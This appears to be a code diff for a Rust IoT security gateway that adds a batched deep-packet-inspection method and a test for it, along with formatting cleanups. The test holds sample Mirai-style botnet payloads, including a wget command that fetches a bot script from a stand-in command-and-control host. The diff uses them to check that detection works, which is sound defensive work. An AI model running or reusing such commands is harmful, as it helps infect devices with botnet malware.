@@ -25,9 +25,7 @@ use xlf_cloud::{CloudNode, DeviceHandler, EventPolicy, SmartCloud};
 use xlf_device::{DeviceConfig, SensorKind, SimDevice, VulnSet};
 use xlf_lwcrypto::kdf::derive_key;
 use xlf_lwcrypto::searchable::Tokenizer;
-use xlf_simnet::{
-    Context, Duration, Medium, Network, Node, NodeId, Packet, SimTime, TimerId,
-};
+use xlf_simnet::{Context, Duration, Medium, Network, Node, NodeId, Packet, SimTime, TimerId};
 
 /// Per-mechanism switches and tuning for one XLF deployment.
 #[derive(Debug, Clone)]
@@ -154,10 +152,7 @@ impl XlfCore {
                     device: verdict.device.clone(),
                     severity,
                     score: verdict.score,
-                    explanation: format!(
-                        "layers {:?}, kinds {:?}",
-                        verdict.layers, verdict.kinds
-                    ),
+                    explanation: format!("layers {:?}, kinds {:?}", verdict.layers, verdict.kinds),
                 });
             }
             all_actions.extend(actions);
@@ -234,9 +229,7 @@ impl XlfGateway {
     /// Creates a gateway bridging `cloud`, wired to `core`.
     pub fn new(core: CoreHandle, config: XlfConfig, cloud: NodeId, master_secret: &[u8]) -> Self {
         let bus = core.borrow().bus.clone();
-        let mut vetter = UpdateVetter::new(
-            &crate::dpi::xlf_attacks_signatures().to_vec(),
-        );
+        let mut vetter = UpdateVetter::new(&crate::dpi::xlf_attacks_signatures().to_vec());
         vetter.trust_vendor("acme", b"acme vendor secret");
         let shaper = TrafficShaper::new(config.shaping, 0x5107);
         XlfGateway {
@@ -287,8 +280,7 @@ impl XlfGateway {
                 .bind_session(&secret)
                 .expect("non-empty session secret");
             let tokenizer = Tokenizer::new(&secret).expect("non-empty session secret");
-            self.dpi
-                .insert(device.to_string(), (middlebox, tokenizer));
+            self.dpi.insert(device.to_string(), (middlebox, tokenizer));
         }
         self.dpi.get_mut(device).expect("just inserted")
     }
@@ -300,6 +292,37 @@ impl XlfGateway {
         let (middlebox, tokenizer) = self.dpi_for(device);
         let tokens = tokenizer.tokenize(payload);
         !middlebox.inspect(device, &tokens, now).is_empty()
+    }
+
+    /// Batched DPI entry point: tokenizes and inspects a burst of payloads
+    /// from one device in a single middlebox pass (session bound once,
+    /// match scratch reused across payloads). Returns, per payload,
+    /// whether any rule matched — exactly what [`scan_payload`] would
+    /// have answered for each, with identical evidence and counters.
+    /// Empty payloads are skipped, as in the per-packet path.
+    ///
+    /// [`scan_payload`]: XlfGateway::scan_payload
+    pub fn inspect_batch(&mut self, device: &str, payloads: &[&[u8]], now: SimTime) -> Vec<bool> {
+        if !self.config.dpi || payloads.is_empty() {
+            return vec![false; payloads.len()];
+        }
+        let (middlebox, tokenizer) = self.dpi_for(device);
+        let scanned: Vec<usize> = payloads
+            .iter()
+            .enumerate()
+            .filter(|(_, p)| !p.is_empty())
+            .map(|(i, _)| i)
+            .collect();
+        let streams: Vec<Vec<xlf_lwcrypto::searchable::Token>> = scanned
+            .iter()
+            .map(|&i| tokenizer.tokenize(payloads[i]))
+            .collect();
+        let matches = middlebox.inspect_batch(device, &streams, now);
+        let mut out = vec![false; payloads.len()];
+        for (&i, m) in scanned.iter().zip(&matches) {
+            out[i] = !m.is_empty();
+        }
+        out
     }
 
     fn device_name_of(&self, node: NodeId) -> Option<String> {
@@ -325,8 +348,7 @@ impl XlfGateway {
         // WAN-bound source routing (the DDoS path) goes through NAC.
         if let Some(final_dst) = packet.meta("final_dst").and_then(|d| d.parse::<u32>().ok()) {
             let target = NodeId::from_raw(final_dst);
-            if self.config.nac
-                && self.nac.check_node(&device, target, now) != AccessDecision::Allow
+            if self.config.nac && self.nac.check_node(&device, target, now) != AccessDecision::Allow
             {
                 self.dropped += 1;
                 return;
@@ -522,8 +544,7 @@ impl Node for XlfGateway {
                 }
             }
             TIMER_COVER_TRAFFIC => {
-                let ShapingMode::ConstantRate { cover_interval, .. } = self.config.shaping
-                else {
+                let ShapingMode::ConstantRate { cover_interval, .. } = self.config.shaping else {
                     return;
                 };
                 let now = ctx.now();
@@ -542,15 +563,10 @@ impl Node for XlfGateway {
                         self.last_upstream.insert(device.clone(), now);
                     }
                     for size in covers {
-                        let mut pkt = Packet::new(
-                            ctx.id(),
-                            self.cloud,
-                            "cover",
-                            Vec::new(),
-                        )
-                        .with_protocol(xlf_simnet::Protocol::Tls)
-                        .with_meta("device", &device)
-                        .with_meta("state", "cover");
+                        let mut pkt = Packet::new(ctx.id(), self.cloud, "cover", Vec::new())
+                            .with_protocol(xlf_simnet::Protocol::Tls)
+                            .with_meta("device", &device)
+                            .with_meta("state", "cover");
                         pkt.pad_to(size);
                         self.forwarded += 1;
                         ctx.send(self.cloud, pkt);
@@ -756,11 +772,7 @@ mod tests {
     fn telemetry_reaches_the_cloud_through_the_gateway() {
         let mut home = basic_home(XlfConfig::full());
         home.net.run_until(SimTime::from_secs(120));
-        let cloud = home
-            .net
-            .node_as::<CloudNode>(home.cloud)
-            .unwrap()
-            .cloud();
+        let cloud = home.net.node_as::<CloudNode>(home.cloud).unwrap().cloud();
         let thermo = cloud.handlers.get("thermo").unwrap();
         assert!(thermo.value("temperature").is_some());
     }
@@ -816,6 +828,21 @@ mod tests {
                     .has_alert("cam", Severity::Critical),
             "camera should be quarantined or critically flagged"
         );
+    }
+
+    #[test]
+    fn gateway_batch_inspection_flags_malicious_payloads() {
+        let mut home = basic_home(XlfConfig::full());
+        home.net.run_until(SimTime::from_secs(5));
+        let gateway = home.net.node_as_mut::<XlfGateway>(home.gateway).unwrap();
+        let payloads: Vec<&[u8]> = vec![
+            b"benign telemetry",
+            b"wget${IFS}http://cnc.evil/bot.sh",
+            b"",
+            b"/bin/busybox MIRAI",
+        ];
+        let flags = gateway.inspect_batch("cam", &payloads, SimTime::from_secs(5));
+        assert_eq!(flags, vec![false, true, false, true]);
     }
 
     #[test]
